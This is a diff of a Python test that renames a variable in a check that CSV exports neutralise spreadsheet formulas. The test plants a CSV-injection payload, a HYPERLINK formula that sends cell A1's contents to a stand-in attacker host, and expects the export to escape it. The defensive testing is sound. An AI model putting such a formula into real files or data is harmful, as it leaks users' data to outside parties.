@@ -196,11 +196,11 @@ def test_broken_accounts_file_fails_closed(
 @pytest.mark.slow
 def test_no_csv_cell_starts_a_formula(site: Path, tmp_path: Path) -> None:
     store = Store(site)
-    ratings = StudyRules(store)
+    rules = StudyRules(store)
     attack = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
     store.db.execute("update ratings set comment = ? where username = 'bob'", [attack])
     store.db.conn.commit()
-    frame = pd.read_csv(io.StringIO(rows_csv(export_rows(ratings, 1, b"k"))))
+    frame = pd.read_csv(io.StringIO(rows_csv(export_rows(rules, 1, b"k"))))
     comments = frame["comment"].dropna().astype(str)
     assert (comments == "'" + attack).any()
     cells = [str(c) for c in frame.to_numpy().ravel()]
